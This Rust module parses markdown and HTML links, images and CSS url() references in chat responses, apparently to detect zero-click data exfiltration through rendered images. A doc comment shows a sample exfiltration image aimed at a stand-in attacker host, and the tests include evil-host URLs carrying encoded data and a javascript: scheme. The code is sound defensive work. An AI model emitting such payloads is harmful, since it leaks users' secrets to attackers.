//! Exfiltration through links and images: the markdown and HTML link
//! parser the response checks rewrite with (`crate::response`) and the
//! content check reads (`crate::inject::assess_context`).
//!
//! Chat UIs render markdown; an image loads by itself, so
//! `![](https://evil.example/log?d=<secret>)` sends data the moment it is
//! shown (zero-click), and a link sends it on one click. Parsed as
//! CommonMark and HTML do, with no length limit an attacker can exceed
//! to hide a link:
//! - inline links and images with nested brackets and backslash escapes
//!   in the text, angle-bracket destinations (spaces allowed), line
//!   breaks inside `( )`, titles (`"…"`, `'…'`, `(…)`);
//! - reference images `![a][x]`, `![x][]`, `![x]` and definitions
//!   `[x]: url "title"` anywhere in the text;
//! - autolinks `<https://…>` and bare URLs (`scheme://…` up to
//!   whitespace or `<`);
//! - HTML tags (any name) with `src`, `srcset` (every candidate),
//!   `poster`, `data`, `background`, `href`, `action`, `formaction`,
//!   `lowsrc`, `dynsrc`, `ping`, `xlink:href` and CSS `url()` in `style`;
//!   CSS `url(…)` anywhere (`<style>` blocks).
//!
//! A construct not closed within [`HOLD`] bytes of its opener is reported
//! as [`Form::Opener`] (the caller neutralizes the opener): a stream must
//! decide after a bounded hold-back, and a one-shot screening decides the
//! same way. Everything is linear in the text and never panics.

use std::ops::Range;

mod html;
mod url;
use html::{attrs, tag_ends, ws};
pub(crate) use url::{
    carries_data, dangerous_scheme, host_allowed, read_host,
};

/// Longest construct (opener to close) parsed in full; see [`Form::Opener`].
pub const HOLD: usize = 8 * 1024;

/// Adjacent unclosed openers of the same kind (`[[[[`, `<<<<`) within
/// one block of this many bytes of the whole response (absolute offsets,
/// so a stream and one-shot screening group them alike) are one
/// [`Form::Opener`]: a megabyte of `[` is ~1,000 findings, not a million.
pub const RUN_BLOCK: usize = 1024;

/// Deepest parenthesis nesting in an inline destination (as cmark).
const MAX_PARENS: usize = 32;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Form {
    /// `[text](url)` / `![alt](url)`.
    Inline,
    /// `![alt][x]`, `![x][]`, `![x]`: the URL is in a definition.
    RefImage,
    /// `[x]: url "title"`.
    Definition,
    /// `<scheme:…>`.
    Autolink,
    /// `scheme://…` in text; `long` when it runs past [`HOLD`].
    Bare,
    /// An HTML tag with URL attributes.
    Html,
    /// CSS `url(…)` outside a tag.
    Css,
    /// A `[`, `![` or `<` whose construct did not close within [`HOLD`].
    Opener,
}

pub(crate) struct Link {
    pub span: Range<usize>,
    /// First URL (empty for `RefImage` and `Opener`).
    pub url: Range<usize>,
    /// Further URLs of the same construct (`srcset`, more attributes).
    pub more: Vec<Range<usize>>,
    /// Visible text (markdown label / alt), if any.
    pub label: Range<usize>,
    /// Loads by itself (zero-click): images, media, frames, stylesheets.
    pub image: bool,
    pub form: Form,
    /// A bare URL cut at [`HOLD`] bytes.
    pub long: bool,
}

impl Link {
    fn new(form: Form, span: Range<usize>, url: Range<usize>) -> Link {
        Link {
            label: span.start..span.start,
            span,
            url,
            more: Vec::new(),
            image: false,
            form,
            long: false,
        }
    }
}

/// Parse outcome of one construct.
enum R<T> {
    Ok(T),
    /// Ran out of text: may still close.
    More,
    /// Ran past `HOLD`.
    Long,
    Fail,
}

struct P<'a> {
    t: &'a [u8],
    /// The text ends here: the end closes a line (a virtual `\n`).
    eof: bool,
    out: Vec<Link>,
    pending: usize,
    /// Absolute offset of `t[0]` in the whole text (for [`RUN_BLOCK`]).
    base: usize,
    /// Per closing byte (`"`, `'`, `)`, `\n`): a scan from `.0` found
    /// the first unescaped occurrence at `.1` (`len` if none).
    memo: [(usize, usize); 4],
}

/// True when `t[i]` is backslash-escaped (parity of at most 128
/// backslashes before it, so the answer depends on nearby text only).
fn escaped(t: &[u8], i: usize) -> bool {
    let mut n = 0;
    while n < 128 && n < i && t[i - 1 - n] == b'\\' {
        n += 1;
    }
    n % 2 == 1
}

/// Every link and image, by start, plus the earliest start of one that
/// may still be forming at the end (`text.len()` if none).
pub(crate) fn find(text: &str) -> (Vec<Link>, usize) {
    scan(text, true)
}

/// [`find`]; with `eof` false the text may go on (a stream), so a
/// construct that reaches the end is pending instead of closed by it.
pub(crate) fn scan(text: &str, eof: bool) -> (Vec<Link>, usize) {
    scan_at(text, eof, 0)
}

/// [`scan`] of a text that starts at absolute offset `base` of the whole
/// response (a stream's window): adjacent openers group by absolute
/// [`RUN_BLOCK`].
pub(crate) fn scan_at(
    text: &str,
    eof: bool,
    base: usize,
) -> (Vec<Link>, usize) {
    // PERF: most prose has no construct at all, and the scan's code is
    // then not compiled (a stream's first push; issue 16).
    if !may_hold(text.as_bytes()) {
        return (Vec::new(), text.len());
    }
    scan_links(text, eof, base)
}

/// Whether [`scan_at`] can find or hold anything in `t`: every construct
/// starts at a `[` (markdown; a trailing `!` may still open an image),
/// a `<` (HTML, autolinks), a `://` (bare URLs) or a `url(` in any case
/// (CSS), as `P::markdown`, `P::html`, `P::bare` and `P::css` test.
fn may_hold(t: &[u8]) -> bool {
    if t.last() == Some(&b'!') {
        return true;
    }
    let mut i = 0;
    while let Some(&b) = t.get(i) {
        let hit = match b {
            b'[' | b'<' => true,
            b':' => t.get(i + 1..i + 3) == Some(b"//"),
            b'(' => {
                i >= 3
                    && t.get(i - 3..i)
                        .is_some_and(|w| w.eq_ignore_ascii_case(b"url"))
            }
            _ => false,
        };
        if hit {
            return true;
        }
        i += 1;
    }
    false
}

#[inline(never)]
fn scan_links(text: &str, eof: bool, base: usize) -> (Vec<Link>, usize) {
    let t = text.as_bytes();
    let mut p = P {
        t,
        eof,
        out: Vec::new(),
        pending: t.len(),
        memo: [(0, 0); 4],
        base,
    };
    p.markdown();
    p.html();
    p.bare();
    p.css();
    let mut out = p.out;
    for l in &mut out {
        // Cuts at HOLD may fall inside a character.
        for r in std::iter::once(&mut l.span)
            .chain(std::iter::once(&mut l.url))
            .chain(l.more.iter_mut())
        {
            r.end = floor(text, r.end);
            r.start = floor(text, r.start).min(r.end);
        }
    }
    crate::order::sort_by_key(&mut out, |l| (l.span.start, l.span.end));
    // Bare URLs and CSS inside another construct are that construct's.
    let mut reach = 0;
    let mut kept = Vec::with_capacity(out.len());
    for l in out {
        let inner = matches!(l.form, Form::Bare | Form::Css);
        if inner && l.span.end <= reach {
            continue;
        }
        if !inner {
            reach = reach.max(l.span.end);
        }
        kept.push(l);
    }
    (kept, floor(text, p.pending))
}

fn floor(s: &str, mut i: usize) -> usize {
    if i >= s.len() {
        return s.len();
    }
    while i > 0 && !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

impl P<'_> {
    fn n(&self) -> usize {
        self.t.len()
    }

    /// Byte `i` of a construct opened at `start`.
    fn at(&self, start: usize, i: usize) -> R<u8> {
        if i >= start.saturating_add(HOLD) {
            R::Long
        } else if i == self.n() && self.eof {
            R::Ok(b'\n')
        } else if i > self.n() && self.eof {
            R::Fail
        } else if i >= self.n() {
            R::More
        } else {
            R::Ok(self.t[i])
        }
    }

    /// First unescaped `c` (one of `"`, `'`, `)`) at or after `i`.
    fn next(&mut self, c: u8, i: usize) -> usize {
        let k = match c {
            b'"' => 0,
            b'\'' => 1,
            b')' => 2,
            _ => 3,
        };
        let (from, found) = self.memo[k];
        if from <= i && i <= found {
            return found;
        }
        let mut j = i;
        while j < self.n() {
            if j == from && from < found {
                j = found;
                break;
            }
            if self.t[j] == c && (c == b'\n' || !escaped(self.t, j)) {
                break;
            }
            j += 1;
        }
        self.memo[k] = (i, j);
        j
    }

    fn opener(&mut self, start: usize, len: usize, image: bool) {
        // PERF: extend the last opener when this one continues it (same
        // bytes, same kind, same block): linear with a small constant on
        // a run of openers. A stream holds back a run that a pending
        // opener may still continue (`response`), so it groups alike.
        let (t, base) = (self.t, self.base);
        let unit = t.get(start..start + len);
        let block = |i: usize| (base + i) / RUN_BLOCK;
        if let Some(l) = self.out.last_mut() {
            if l.form == Form::Opener
                && l.image == image
                && l.span.end == start
                && l.span.len() % len == 0
                && block(l.span.start) == block(start)
                && t.get(l.span.start..l.span.start + len) == unit
            {
                l.span.end = start + len;
                l.url = l.span.start..l.span.start;
                return;
            }
        }
        let mut l = Link::new(Form::Opener, start..start + len, start..start);
        l.image = image;
        self.out.push(l);
    }

    fn markdown(&mut self) {
        let t = self.t;
        // Unmatched `[` openers, oldest from `head` on.
        let mut open: Vec<usize> = Vec::new();
        let mut head = 0;
        let mut i = 0;
        while i < t.len() {
            while open.get(head).is_some_and(|&o| i >= o + HOLD) {
                let o = open[head];
                head += 1;
                {
                    let image =
                        o > 0 && t[o - 1] == b'!' && !escaped(t, o - 1);
                    let s = if image { o - 1 } else { o };
                    self.opener(s, o + 1 - s, image);
                }
            }
            match t[i] {
                b'[' if !escaped(t, i) => open.push(i),
                b']' if !escaped(t, i) && open.len() > head => {
                    if let Some(o) = open.pop() {
                        self.closed(o, i);
                    }
                }
                b'\n' if blank_after(t, i) => {
                    open.clear();
                    head = 0;
                }
                _ => {}
            }
            i += 1;
        }
        if let Some(&o) = open.get(head) {
            let s = if o > 0 && t[o - 1] == b'!' { o - 1 } else { o };
            self.pending = self.pending.min(s);
        }
        if t.last() == Some(&b'!') {
            self.pending = self.pending.min(t.len() - 1);
        }
    }

    /// `[` at `o` matched by `]` at `j`.
    ///
    /// PERF: this and the parts below that run only once an opener is
    /// found are out of line, so a first response without links does
    /// not make V8 compile them (issue 16: the first push).
    #[inline(never)]
    fn closed(&mut self, o: usize, j: usize) {
        let t = self.t;
        let image = o > 0 && t[o - 1] == b'!' && !escaped(t, o - 1);
        let start = if image { o - 1 } else { o };
        let label = o + 1..j;
        let r = match t.get(j + 1) {
            None if self.eof => R::Fail,
            None => R::More,
            Some(b'(') => self.inline(start, j + 2),
            Some(b':') => self.definition(start, o, j),
            Some(_) => R::Fail,
        };
        let r = match r {
            R::Fail if image => self.ref_image(start, j),
            r => r,
        };
        match r {
            R::Ok(mut l) => {
                l.label = label;
                l.image |= image && l.form != Form::Definition;
                self.out.push(l);
            }
            R::More => self.pending = self.pending.min(start),
            R::Long => self.opener(start, o + 1 - start, image),
            R::Fail => {}
        }
    }

    fn skip_ws(&self, start: usize, mut i: usize) -> R<usize> {
        loop {
            match self.at(start, i) {
                R::Ok(c) if ws(c) => i += 1,
                R::Ok(_) => return R::Ok(i),
                R::More => return R::More,
                R::Long => return R::Long,
                R::Fail => return R::Fail,
            }
        }
    }

    /// A link destination at `i`: its range and the index after it.
    fn destination(
        &self,
        start: usize,
        mut i: usize,
        parens: bool,
    ) -> R<(Range<usize>, usize)> {
        macro_rules! at {
            ($i:expr) => {
                match self.at(start, $i) {
                    R::Ok(c) => c,
                    R::More => return R::More,
                    R::Long => return R::Long,
                    R::Fail => return R::Fail,
                }
            };
        }
        if at!(i) == b'<' {
            i += 1;
            let s = i;
            loop {
                match at!(i) {
                    b'>' if !escaped(self.t, i) => {
                        return R::Ok((s..i, i + 1))
                    }
                    b'<' if !escaped(self.t, i) => return R::Fail,
                    b'\n' => return R::Fail,
                    _ => i += 1,
                }
            }
        }
        let s = i;
        let mut depth = 0usize;
        loop {
            let c = at!(i);
            if ws(c) || c < 0x20 {
                break;
            }
            if !escaped(self.t, i) {
                if c == b'(' {
                    depth += 1;
                    if depth > MAX_PARENS {
                        return R::Fail;
                    }
                } else if c == b')' {
                    if depth == 0 && parens {
                        break;
                    }
                    depth = depth.saturating_sub(1);
                }
            }
            i += 1;
        }
        if parens && depth > 0 {
            return R::Fail;
        }
        R::Ok((s..i, i))
    }

    /// `(dest "title")` from `i` (after the `(`).
    fn inline(&mut self, start: usize, i: usize) -> R<Link> {
        let i = match self.skip_ws(start, i) {
            R::Ok(i) => i,
            R::More => return R::More,
            R::Long => return R::Long,
            R::Fail => return R::Fail,
        };
        let (url, mut i) = if self.t[i] == b')' {
            (i..i, i)
        } else {
            match self.destination(start, i, true) {
                R::Ok(x) => x,
                R::More => return R::More,
                R::Long => return R::Long,
                R::Fail => return R::Fail,
            }
        };
        for round in 0..2 {
            i = match self.skip_ws(start, i) {
                R::Ok(i) => i,
                R::More => return R::More,
                R::Long => return R::Long,
                R::Fail => return R::Fail,
            };
            let c = self.t[i];
            if c == b')' {
                return R::Ok(Link::new(Form::Inline, start..i + 1, url));
            }
            if round == 1 || !matches!(c, b'"' | b'\'' | b'(') {
                return R::Fail;
            }
            let close = if c == b'(' { b')' } else { c };
            let e = self.next(close, i + 1);
            if e >= start.saturating_add(HOLD) {
                return R::Long;
            }
            if e >= self.n() {
                return if self.eof { R::Fail } else { R::More };
            }
            i = e + 1;
        }
        R::Fail
    }

    /// `[x]: dest …` to the end of its line.
    fn definition(&mut self, start: usize, o: usize, j: usize) -> R<Link> {
        let mut i = j + 2;
        let mut newline = false;
        loop {
            match self.at(start, i) {
                R::Ok(b'\n') if !newline => newline = true,
                R::Ok(c) if ws(c) && c != b'\n' => {}
                R::Ok(b'\n') => return R::Fail,
                R::Ok(_) => break,
                R::More => return R::More,
                R::Long => return R::Long,
                R::Fail => return R::Fail,
            }
            i += 1;
        }
        let (url, mut i) = match self.destination(start, i, false) {
            R::Ok(x) => x,
            R::More => return R::More,
            R::Long => return R::Long,
            R::Fail => return R::Fail,
        };
        if url.is_empty() && self.t.get(url.start) != Some(&b'>') {
            return R::Fail;
        }
        if i < self.n() {
            i = self.next(b'\n', i);
        }
        if i >= start.saturating_add(HOLD) {
            return R::Long;
        }
        if i >= self.n() && !self.eof {
            return R::More;
        }
        let i = i.min(self.n());
        let _ = o;
        R::Ok(Link::new(Form::Definition, start..i, url))
    }

    /// `![alt]` then optionally `[x]` or `[]`.
    fn ref_image(&mut self, start: usize, j: usize) -> R<Link> {
        let t = self.t;
        let mut end = j + 1;
        if t.get(end) == Some(&b'[') {
            let mut i = end + 1;
            loop {
                match self.at(start, i) {
                    R::Ok(b']') if !escaped(t, i) => {
                        end = i + 1;
                        break;
                    }
                    R::Ok(b'[') if !escaped(t, i) => break,
                    R::Ok(_) => i += 1,
                    R::More => return R::More,
                    R::Long => break,
                    R::Fail => break,
                }
            }
        }
        R::Ok(Link::new(Form::RefImage, start..end, j..j))
    }

    fn html(&mut self) {
        if self.t.contains(&b'<') {
            self.tags();
        }
    }

    #[inline(never)]
    fn tags(&mut self) {
        let t = self.t;
        let ends = tag_ends(t);
        let mut i = 0;
        while let Some(k) = t[i..].iter().position(|&c| c == b'<') {
            let p = i + k;
            i = p + 1;
            match self.autolink(p) {
                R::Ok(l) => {
                    i = l.span.end;
                    self.out.push(l);
                    continue;
                }
                R::More => {
                    self.pending = self.pending.min(p);
                    continue;
                }
                _ => {}
            }
            let mut k = p + 1;
            while k < t.len()
                && (t[k].is_ascii_alphanumeric()
                    || (k > p + 1 && b"-:".contains(&t[k])))
            {
                k += 1;
            }
            if k == p + 1 || !t[p + 1].is_ascii_alphabetic() {
                if p + 1 == t.len() {
                    self.pending = self.pending.min(p);
                }
                continue;
            }
            if k == t.len() {
                self.pending = self.pending.min(p);
                continue;
            }
            if !(ws(t[k]) || t[k] == b'/' || t[k] == b'>') {
                continue;
            }
            let e = ends.get(k).copied().unwrap_or(u32::MAX) as usize;
            if e >= p.saturating_add(HOLD) || e >= t.len() {
                if t.len() >= p.saturating_add(HOLD) {
                    self.opener(p, 1, true);
                } else {
                    self.pending = self.pending.min(p);
                }
                continue;
            }
            let name = &t[p + 1..k];
            let link_tag = [&b"a"[..], b"area", b"form", b"button", b"input"]
                .iter()
                .any(|n| n.eq_ignore_ascii_case(name));
            let urls = attrs(t, k..e, name);
            if !urls.is_empty() {
                let mut l = Link::new(Form::Html, p..e + 1, urls[0].0.clone());
                l.label = e + 1..e + 1;
                // `<a href>` and form targets need a click; everything
                // else loads by itself.
                l.image = !(link_tag && urls.iter().all(|u| u.1));
                l.more = urls[1..].iter().map(|u| u.0.clone()).collect();
                self.out.push(l);
            }
            i = e + 1;
        }
    }

    /// `<scheme:…>` at `p`.
    fn autolink(&self, p: usize) -> R<Link> {
        let t = self.t;
        let mut i = p + 1;
        while i < t.len()
            && i - p <= 33
            && (t[i].is_ascii_alphanumeric() || b"+.-".contains(&t[i]))
        {
            i += 1;
        }
        if i >= t.len() {
            if self.eof {
                return R::Fail;
            }
            return if t[p + 1..].iter().all(u8::is_ascii_alphabetic) {
                R::More
            } else {
                R::Fail
            };
        }
        if t[i] != b':' || i - p < 3 || !t[p + 1].is_ascii_alphabetic() {
            return R::Fail;
        }
        let s = p + 1;
        loop {
            match self.at(p, i) {
                R::Ok(b'>') => {
                    let mut l = Link::new(Form::Autolink, p..i + 1, s..i);
                    l.label = s..i;
                    return R::Ok(l);
                }
                R::Ok(c) if ws(c) || c == b'<' || c < 0x20 => return R::Fail,
                R::Ok(_) => i += 1,
                R::More => return R::More,
                R::Long => return R::Fail,
                R::Fail => return R::Fail,
            }
        }
    }

    fn bare(&mut self) {
        if self.t.windows(3).any(|w| w == b"://") {
            self.bare_urls();
        }
    }

    #[inline(never)]
    fn bare_urls(&mut self) {
        let t = self.t;
        let (mut run_from, mut run_end) = (usize::MAX, 0);
        let mut c = 0;
        while let Some(k) =
            t.get(c..).and_then(|r| r.windows(3).position(|w| w == b"://"))
        {
            let colon = c + k;
            c = colon + 1;
            let mut s = colon;
            while s > 0
                && colon - s < 32
                && (t[s - 1].is_ascii_alphanumeric()
                    || b"+.-".contains(&t[s - 1]))
            {
                s -= 1;
            }
            while s < colon && !t[s].is_ascii_alphabetic() {
                s += 1;
            }
            if s == colon {
                continue;
            }
            if !(run_from <= colon && colon < run_end) {
                let mut e = colon;
                while e < t.len()
                    && !(ws(t[e]) || t[e] == b'<' || t[e] == b'>')
                {
                    e += 1;
                }
                (run_from, run_end) = (colon, e);
            }
            let e = run_end;
            let lim = s.saturating_add(HOLD);
            let long = e >= lim;
            if e == t.len() && !long && !self.eof {
                self.pending = self.pending.min(s);
                continue;
            }
            let e = if long { lim } else { trim_punct(t, colon + 3, e) };
            let mut l = Link::new(Form::Bare, s..e, s..e);
            l.label = s..e;
            l.long = long;
            self.out.push(l);
        }
    }

    fn css(&mut self) {
        if self.t.windows(4).any(|w| w.eq_ignore_ascii_case(b"url(")) {
            self.css_urls();
        }
    }

    #[inline(never)]
    fn css_urls(&mut self) {
        let t = self.t;
        let mut i = 0;
        while let Some(k) = t.get(i..).and_then(|r| {
            r.windows(4).position(|w| w.eq_ignore_ascii_case(b"url("))
        }) {
            let p = i + k;
            i = p + 4;
            if p > 0 && (t[p - 1].is_ascii_alphanumeric() || t[p - 1] == b'_')
            {
                continue;
            }
            let s = match self.skip_ws(p, p + 4) {
                R::Ok(s) => s,
                R::More => {
                    self.pending = self.pending.min(p);
                    continue;
                }
                _ => continue,
            };
            let q = self.t[s];
            let (us, close) =
                if q == b'"' || q == b'\'' { (s + 1, q) } else { (s, b')') };
            let e = self.next(close, us);
            if e >= p.saturating_add(HOLD) {
                self.opener(p, 4, true);
                continue;
            }
            if e >= t.len() && !self.eof {
                self.pending = self.pending.min(p);
                continue;
            }
            // CSS closes a `url(` at the end of the input.
            let e = e.min(t.len());
            let end = if close == b')' || t.get(e + 1) != Some(&b')') {
                (e + 1).min(t.len())
            } else {
                e + 2
            };
            let mut l = Link::new(Form::Css, p..end, us..e);
            l.image = true;
            self.out.push(l);
        }
    }
}

/// Is the line after the newline at `i` blank (paragraph break)?
fn blank_after(t: &[u8], i: usize) -> bool {
    let mut j = i + 1;
    while j < t.len() && (t[j] == b' ' || t[j] == b'\t' || t[j] == b'\r') {
        j += 1;
    }
    j < t.len() && t[j] == b'\n'
}

/// Drops trailing punctuation a renderer leaves out of a bare URL
/// (never below `min`).
fn trim_punct(t: &[u8], min: usize, mut e: usize) -> usize {
    while e > min && b".,:;!?\"')*_~".contains(&t[e - 1]) {
        e -= 1;
    }
    e
}

#[cfg(test)]
mod tests {
    use super::url::host;
    use super::*;

    /// The pre-test skips only texts the scan finds nothing in and holds
    /// nothing of: every prefix of texts with and without each
    /// construct's opener, streamed and whole.
    #[test]
    fn pre_test_skips_only_empty_scans() {
        let texts = [
            "Sure, here is the summary you asked for: it (works)!",
            "see [te](x) and ![i](y) then <a href='h'>x</a> <b>",
            "go https://x.test/a or HTTP://y, style: URL( a.png ) url(",
            "a: b (c) d_e 'f' \"g\" ] ) > url url) :/ :/x !x",
        ];
        for t in texts {
            for n in 0..=t.len() {
                let part = &t[..n];
                for eof in [false, true] {
                    let (found, pending) = scan_links(part, eof, 0);
                    if !may_hold(part.as_bytes()) {
                        assert!(found.is_empty(), "{part:?}");
                        assert_eq!(pending, part.len(), "{part:?}");
                    }
                    let (f2, p2) = scan_at(part, eof, 0);
                    assert_eq!((f2.len(), p2), (found.len(), pending));
                }
            }
        }
        assert!(!may_hold(b"Sure, here is the summary you asked for: "));
    }

    fn urls(t: &str) -> Vec<(&str, Form, bool)> {
        find(t)
            .0
            .iter()
            .map(|l| (&t[l.url.clone()], l.form, l.image))
            .collect()
    }

    #[test]
    fn parses_forms_and_pending() {
        let t = "a ![x](https://e.test/i.png) b [t](http://h.test \"ti\") \
                 <img src=\"//x.test/p\"> <a href='http://y.test'>y</a>";
        let (l, p) = find(t);
        assert_eq!(p, t.len());
        let md: Vec<_> = l.iter().filter(|l| l.form != Form::Bare).collect();
        assert_eq!(md.len(), 4);
        assert_eq!(&t[md[0].url.clone()], "https://e.test/i.png");
        assert!(md[0].image && !md[1].image && md[2].image && !md[3].image);
        assert_eq!(&t[md[3].url.clone()], "http://y.test");
        assert_eq!(scan("see [te", false).1, 4);
        assert_eq!(scan("see ![te](http://x", false).1, 4);
        assert_eq!(scan("a <im", false).1, 2);
        assert_eq!(scan("a <b>", false).1, 5);
        assert_eq!(scan("a [b] c", false).1, 7);
        assert_eq!(scan("wow!", false).1, 3);
        assert_eq!(scan("go https://x.test/a", false).1, 3);
    }

    #[test]
    fn commonmark_and_html_forms() {
        let t = "![a][x]\n\n[x]: https://e.test/p.png?d=1";
        assert_eq!(
            urls(t),
            vec![
                ("", Form::RefImage, true),
                ("https://e.test/p.png?d=1", Form::Definition, false)
            ]
        );
        assert_eq!(
            urls("![x](<https://e.test/a b?d=1>)")[0].0,
            "https://e.test/a b?d=1"
        );
        assert_eq!(
            urls("![x](\nhttps://e.test/a\n)")[0].0,
            "https://e.test/a"
        );
        assert_eq!(urls("![x\\]](https://e.test/a)")[0].0, "https://e.test/a");
        let n = urls("![x [y](z)](https://e.test/a)");
        assert!(n.iter().any(|u| u.0 == "https://e.test/a" && u.2));
        let long = format!(
            "![{}](https://e.test/a \"{}\")",
            "a".repeat(2000),
            "t".repeat(600)
        );
        assert_eq!(urls(&long)[0].0, "https://e.test/a");
        let u = format!("https://e.test/{}", "b".repeat(3000));
        assert_eq!(urls(&format!("![a]({u})"))[0].0, u);
        let tag = format!(
            "<img alt=\"{}\" src=\"https://e.test/i\">",
            "z".repeat(3000)
        );
        assert_eq!(urls(&tag)[0].0, "https://e.test/i");
        let s =
            urls("<img srcset=\"https://a.test/1 1x, https://b.test/2 2x\">");
        assert_eq!(s[0].0, "https://a.test/1");
        let (l, _) =
            find("<img srcset=\"https://a.test/1 1x, https://b.test/2 2x\">");
        assert_eq!(l[0].more.len(), 1);
        for (tag, url) in [
            (
                "<picture><source srcset=\"https://e.test/s\"></picture>",
                "https://e.test/s",
            ),
            ("<video poster=https://e.test/v></video>", "https://e.test/v"),
            ("<input type=image src='https://e.test/i'>", "https://e.test/i"),
            ("<iframe src=\"https://e.test/f\"></iframe>", "https://e.test/f"),
            (
                "<link rel=stylesheet href=\"https://e.test/c\">",
                "https://e.test/c",
            ),
            (
                "<div style=\"background:url(https://e.test/b)\">",
                "https://e.test/b",
            ),
            (
                "<style>p{background:url('https://e.test/s')}</style>",
                "https://e.test/s",
            ),
            ("<https://e.test/auto>", "https://e.test/auto"),
            ("see https://e.test/bare.", "https://e.test/bare"),
        ] {
            let u = urls(tag);
            assert_eq!(u.first().map(|x| x.0), Some(url), "{tag}");
        }
        assert!(!urls("<a href=\"https://e.test/\">x</a>")[0].2);
        // Unclosed past HOLD: the opener is reported.
        let open = format!("![a](https://e.test/{}", "c".repeat(HOLD));
        assert_eq!(urls(&open)[0].1, Form::Opener);
    }

    #[test]
    fn hosts_and_data() {
        assert_eq!(
            host("https://u:p@Evil.test:8080/x").as_deref(),
            Some("evil.test:8080")
        );
        assert_eq!(host("/relative"), None);
        assert_eq!(
            host("https:\\\\evil.test\\x").as_deref(),
            Some("evil.test")
        );
        assert_eq!(host("http:evil.test/x").as_deref(), Some("evil.test"));
        assert_eq!(host("ht\ntps://evil.test").as_deref(), Some("evil.test"));
        assert_eq!(host("mailto:a@b.test"), None);
        assert!(host_allowed("img.example.com", &["*.example.com".into()]));
        assert!(!host_allowed(
            "example.com.evil.test",
            &["*.example.com".into()]
        ));
        assert!(carries_data("https://e.test/log?d=ana%40x.com"));
        assert!(carries_data(
            "https://e.test/p/aGVsbG8gd29ybGQgc2VjcmV0IGtleQ"
        ));
        assert!(carries_data("https://e.test/?q=[EMAIL_1]"));
        assert!(!carries_data(
            "https://docs.e.test/guide/getting-started?utm_source=chat"
        ));
        assert!(!carries_data(
            "https://e.test/wiki/Rust_(programming_language)"
        ));
        assert!(dangerous_scheme(" JavaScript:alert(1)"));
    }
}
